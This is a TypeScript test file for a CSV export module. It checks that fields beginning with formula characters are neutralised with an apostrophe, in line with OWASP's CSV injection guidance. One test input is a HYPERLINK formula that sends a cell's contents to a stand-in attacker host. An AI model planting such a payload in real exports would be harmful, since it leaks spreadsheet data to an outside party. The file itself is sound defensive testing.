// Formula neutralisation of the CSV exports (OWASP's CSV injection rule).
import { parse } from 'csv-parse/sync';
import { csvExport, neutralised } from '../../shared/features/export/csvExport';

test.each([
    ['=HYPERLINK("http://evil.example/?x="&B2,"x")', '\'=HYPERLINK("http://evil.example/?x="&B2,"x")'],
    ['+Calls', "'+Calls"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tcmd', "'\tcmd"], ['\rcmd', "'\rcmd"],
])('text that would start a formula becomes text: %j', (field, shown) => {
    expect(neutralised(field)).toBe(shown);
});

test.each(['-0.0150', '+3', '12', '0.5', 'Lucerne', 'a=b', '', ' =x'])('a number or other text stays as it is: %j', (field) => {
    expect(neutralised(field)).toBe(field);
});

test('every text field of an export is neutralised, and the file still reads back', async () => {
    const out = csvExport(['Name', 'Amount', 'Note']);
    const chunks: string[] = [];
    out.on('data', (c: Buffer) => chunks.push(c.toString()));
    out.write({ Name: '=1+1', Amount: '-1.5000', Note: '@x, "quoted"\nnext line' });
    out.end();
    await new Promise((r) => out.on('end', r));
    expect(parse(chunks.join(''), { columns: true })).toEqual([{ Name: "'=1+1", Amount: '-1.5000', Note: "'@x, \"quoted\"\nnext line" }]);
});
